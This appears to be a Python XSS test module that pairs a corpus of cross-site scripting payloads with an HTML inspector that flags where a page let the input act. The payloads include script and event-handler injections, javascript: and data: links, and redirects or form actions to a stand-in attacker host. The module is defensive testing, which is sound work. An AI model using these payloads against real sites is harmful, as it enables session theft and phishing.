"""What somebody hostile types, and how we see that a page let it act."""

from html.parser import HTMLParser

# After OWASP's and PortSwigger's cheat sheets: one of each family.
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](<javascript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://mechant.example/x.css'</style>",
    "<form action=http://mechant.example><button>Payer</button></form>",
    "<base href=http://mechant.example>",
    "<meta http-equiv=refresh content='0;url=http://mechant.example'>",
    "{{ 7|add:7 }}{% load static %}",
    'http://exemple.fr/"onmouseover=alert(1)//',
]
INTERDITES = {"iframe", "object", "embed", "base", "math", "style", "mglyph"}


def attaque(marque: str = "1", longueur: int | None = None) -> str:
    """All the corpus where it holds; else an address, an attribute and an element at once; else an element."""
    polyglotte = f"javascript:{marque}//\"'><img src=x onerror={marque}>"
    choix = [
        " ".join([polyglotte, *CORPUS]),
        polyglotte,
        f"\"'><svg/onload={marque}>",
        "\"'><math>",
    ]
    return next((texte for texte in choix if longueur is None or len(texte) <= longueur), "")


class Inspection(HTMLParser):
    """Reads a page as a browser would, and notes what could run or lead astray."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        valeurs = {nom: (valeur or "").strip().lower() for nom, valeur in attrs}
        mauvaise = tag in INTERDITES or (tag in {"script", "img"} and not valeurs.get("src", "").startswith("/"))
        evenement = any(nom.startswith("on") for nom in valeurs)
        adresses = [valeurs.get(nom, "") for nom in ("href", "src", "action", "formaction", "srcdoc")]
        executable = any(adresse.startswith(("javascript:", "data:", "vbscript:")) for adresse in adresses)
        ailleurs = tag in {"form", "button", "meta"} and "mechant" in "".join(valeurs.values())
        if mauvaise or evenement or executable or ailleurs:
            self.dangers.append(self.get_starttag_text())


def dangers(html: str) -> list[str]:
    return Inspection(html).dangers
